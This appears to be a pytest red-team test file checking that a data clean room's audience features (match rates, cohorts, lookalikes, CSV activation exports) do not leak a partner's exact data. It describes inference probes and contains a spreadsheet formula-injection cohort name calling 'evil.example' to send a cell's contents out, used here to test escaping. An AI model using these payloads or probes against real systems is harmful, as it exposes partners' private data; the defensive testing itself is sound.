"""Red team against audiences (issue 12): a suspicious owner learning a partner's exact data
through the audience endpoints instead of noisy, charged releases.

Each attack goes through the client like a real party would; the assertions state the property
that must hold, so they fail if the leak comes back.
"""

from __future__ import annotations

import pandas as pd
import pytest

import workbench as wb
from tests.audiences.conftest import activation_root  # noqa: F401  (a fixture used below)
from tests.audiences.conftest import (add_user_list, advertiser_with_strangers,
                                      publisher_with_features)
from tests.runs.room import build_room


@pytest.fixture
def exact_audience_room(admin, make_org):
    """DP off (exact aggregates, k-min 5), the audiences tests' data."""
    return build_room(admin, make_org, dp=False, k_min=5, epsilon_budget="50",
                      publisher=publisher_with_features(), advertiser=advertiser_with_strangers())


def test_match_rates_in_an_exact_room_do_not_reveal_whether_one_person_is_in_the_partner_data(
        exact_audience_room):
    """Without noise, the owner provisions a one-row dataset holding a target's e-mail and reads
    its matched count: exact membership of one person in the partner's data (and the partner's
    exact row count, which an exact room must never show). Match rates are DP releases only."""
    room = exact_audience_room
    probe = room.owner.connect_dataset(pd.DataFrame({"email": ["stranger7@example.org"]}),
                                       "probe", identity_column="email", identity_kind="email",
                                       progress=False)
    room.owner.provision_dataset(room.id, probe.id, "probe")
    with pytest.raises(wb.errors.WorkbenchError, match="differential privacy"):
        room.owner.match_rates(room.id)
    with pytest.raises(wb.errors.WorkbenchError, match="differential privacy"):
        room.partner.match_rates(room.id)


@pytest.fixture
def dp_audience_room(admin, make_org):
    """DP on, k-min 5, a generous budget."""
    return build_room(admin, make_org, dp=True, k_min=5, epsilon_budget="50",
                      publisher=publisher_with_features(), advertiser=advertiser_with_strangers())


def test_lookalike_seed_limits_do_not_binary_search_the_exact_cohort_size(dp_audience_room):
    """The owner sets the room's largest seed to m and asks for a lookalike: if the refusal
    compared m with the seed's EXACT member count, two free refusals (m = 199, m = 200) would
    reveal that exactly 200 of the partner's buyers matched, whatever the noise on the size.
    The decision may only use what was released: the noisy size."""
    room = dp_audience_room
    qid = add_user_list(room)
    seed = room.owner.create_cohort(room.id, "buyers", qid, {"min_amount": 0}, epsilon="0.1")
    exact = 200  # publisher users 0, 2, 4, ... 398 bought (tests.runs.room.advertiser_frame)
    outcomes = {}
    for m in (exact - 1, exact):
        room.owner.set_audience_terms(room.id, max_seed=m)
        try:
            room.owner.train_lookalike(room.id, f"look {m}", seed.id, ["segment", "visits"],
                                       epsilon="0.1")
            outcomes[m] = "trained"
        except wb.errors.InvalidInput as err:
            assert "maximum seed" in str(err)
            outcomes[m] = "refused"
    for m, outcome in outcomes.items():  # decided on the released size only
        assert outcome == ("refused" if seed.size > m else "trained"), (seed.size, outcomes)


def test_lookalike_minimum_seed_is_decided_on_the_released_size(dp_audience_room):
    """A user list whose true size is under the minimum seed must not be told apart for free
    from one whose released size is under it: a refusal before any charge reads exact data."""
    room = dp_audience_room
    qid = add_user_list(room)
    seed = room.owner.create_cohort(room.id, "buyers", qid, {"min_amount": 0}, epsilon="0.1")
    room.owner.set_audience_terms(room.id, max_seed=seed.size)
    left = room.partner.budget(room.id).epsilon_left
    look = room.owner.train_lookalike(room.id, "look", seed.id, ["segment", "visits"],
                                      epsilon="0.1")
    assert look.kind == "modeled"
    assert float(left) - float(room.partner.budget(room.id).epsilon_left) == pytest.approx(0.1)


def test_a_cohort_respects_the_partners_dataset_k_min_floor(dp_audience_room):
    """The strictest setting wins: the advertiser declares a crowd-size floor of 1,000 on its
    dataset. A matched cohort of about 200 of its buyers (kept for activation) must be refused,
    not checked against the room's k-min of 5 only; so must a lookalike size under the floor."""
    room = dp_audience_room
    qid = add_user_list(room)
    seed = room.owner.create_cohort(room.id, "buyers", qid, {"min_amount": 0}, epsilon="1")
    look = room.owner.train_lookalike(room.id, "look", seed.id, ["segment", "visits"],
                                      epsilon="0.5")
    room.partner.set_k_min_floor(room.id, room.advertiser_dataset, 1000)
    with pytest.raises(wb.errors.InvalidInput, match="k-min"):
        room.owner.create_cohort(room.id, "again", qid, {"min_amount": 0}, epsilon="1")
    with pytest.raises(wb.errors.InvalidInput, match="k-min"):
        room.owner.refresh_cohort(room.id, seed.id, {"min_amount": 0}, epsilon="1")
    with pytest.raises(wb.errors.InvalidInput, match="k-min"):
        room.owner.pick_lookalike_size(room.id, look.id, top_n=100)
    assert {c.name for c in room.owner.cohorts(room.id)} == {"buyers", "look"}


@pytest.mark.parametrize("where", ["CAST(a.amount AS TINYINT) > 0",
                                   "CAST(a.amount AS TINYINT) + 1 > 0"])
def test_whether_a_cohort_builds_does_not_depend_on_a_partner_value(dp_audience_room, where):
    """CAST(amount AS TINYINT) fails only when some matched buyer spent more than 127: a cohort
    build that errors on it answers a yes/no question about the partner's data outside the
    noise. User lists compile to the same total forms as questions (casts become TRY_CAST)."""
    room = dp_audience_room
    q = room.owner.create_question(
        room.id, "cast", "SELECT p.email FROM publisher p JOIN advertiser a ON p.email = a.email "
        f"WHERE {where}", kind="user_list")
    room.owner.add_question(room.id, q.id)
    cohort = room.owner.create_cohort(room.id, "cast", q.id, epsilon="1")
    assert cohort.status == "ready" and cohort.dp


def test_a_user_list_saved_in_a_dp_room_is_held_to_exact_rules_once_dp_is_off(admin, make_org):
    """A user list with a range on the partner's amounts is fine with noise. After every party
    agreed to switch DP off, building it would give exact, differenceable sizes: refused."""
    room = build_room(admin, make_org, dp=True, k_min=5, epsilon_budget="50",
                      publisher=publisher_with_features(), advertiser=advertiser_with_strangers())
    qid = add_user_list(room)
    proposal = room.owner.propose(room.id, dp_enabled=False)
    room.partner.approve(room.id, proposal.id)
    with pytest.raises(wb.errors.RuleViolation, match="exact_rooms"):
        room.owner.create_cohort(room.id, "buyers", qid, {"min_amount": 0})
    assert room.owner.cohorts(room.id) == []


def test_audience_releases_wait_for_an_active_room(dp_audience_room):
    """Runs refuse a draft room (a party still mapping its data has not finished choosing its
    protections); cohorts, lookalikes and match rates read the same data and must too."""
    room = dp_audience_room
    qid = add_user_list(room)
    seed = room.owner.create_cohort(room.id, "buyers", qid, {"min_amount": 0}, epsilon="1")
    room.owner.set_template(room.id, [  # a new required dataset of the partner: a draft again
        {"macro": "publisher", "party": "owner",
         "fields": [{"macro": "email"}, {"macro": "region"}, {"macro": "age_band"}]},
        {"macro": "advertiser", "party": room.partner_org,
         "fields": [{"macro": "email"}, {"macro": "amount"}]},
        {"macro": "visits", "party": room.partner_org, "fields": [{"macro": "email"}]},
    ], runs="all", receives="owner")
    left = room.partner.budget(room.id).epsilon_left
    with pytest.raises(wb.errors.Conflict, match="draft"):
        room.owner.create_cohort(room.id, "again", qid, {"min_amount": 0}, epsilon="1")
    with pytest.raises(wb.errors.Conflict, match="draft"):
        room.owner.refresh_cohort(room.id, seed.id, epsilon="1")
    with pytest.raises(wb.errors.Conflict, match="draft"):
        room.owner.train_lookalike(room.id, "look", seed.id, ["segment"], epsilon="1")
    with pytest.raises(wb.errors.Conflict, match="draft"):
        room.owner.match_rates(room.id)
    assert room.partner.budget(room.id).epsilon_left == left
    assert [c.name for c in room.owner.cohorts(room.id)] == ["buyers"]


def test_a_cohort_name_cannot_plant_a_formula_in_a_csv_export(dp_audience_room, activation_root):
    """Whoever names a cohort writes a cell of the activation party's CSV export, which ad
    operations open in a spreadsheet: a name starting a formula is written as text."""
    import csv

    room = dp_audience_room
    qid = add_user_list(room)
    name = '=HYPERLINK("http://evil.example/?"&A2,"open")'
    cohort = room.owner.create_cohort(room.id, name, qid, {"min_amount": 0}, epsilon="1")
    room.owner.set_activation_policy(room.id, room.publisher_dataset, True)
    room.partner.set_activation_policy(room.id, room.advertiser_dataset, True)
    dest = room.owner.create_destination(room.id, "sheet", "csv", "sheets")
    room.owner.activate(room.id, cohort.id, dest.id, impressions=3, per="day")
    (data,) = [p for p in (activation_root / "sheets").rglob("members*") if p.is_file()]
    rows = list(csv.DictReader(data.read_text().splitlines()))
    assert rows and all(r["cohort"] == "'" + name for r in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_a_partner_cannot_resize_the_owners_lookalike(dp_audience_room):
    """pick_size decides who is activated: a partner resizing the owner's lookalike to the
    whole user base just before the owner activates it (or probing the exact number of the
    owner's users through the size errors) is refused; the owner's pick stays."""
    room = dp_audience_room
    qid = add_user_list(room)
    seed = room.owner.create_cohort(room.id, "buyers", qid, {"min_amount": 0}, epsilon="1")
    look = room.owner.train_lookalike(room.id, "look", seed.id, ["segment", "visits"],
                                      epsilon="0.5")
    picked = room.owner.pick_lookalike_size(room.id, look.id, top_n=120)
    for size in ({"top_n": 600}, {"top_n": 10**9}, {"percent": 100.0}):
        with pytest.raises(wb.errors.PermissionDenied):
            room.partner.pick_lookalike_size(room.id, look.id, **size)
    after = room.owner.cohort(room.id, look.id)
    assert after.size == 120 and after.version == picked.version
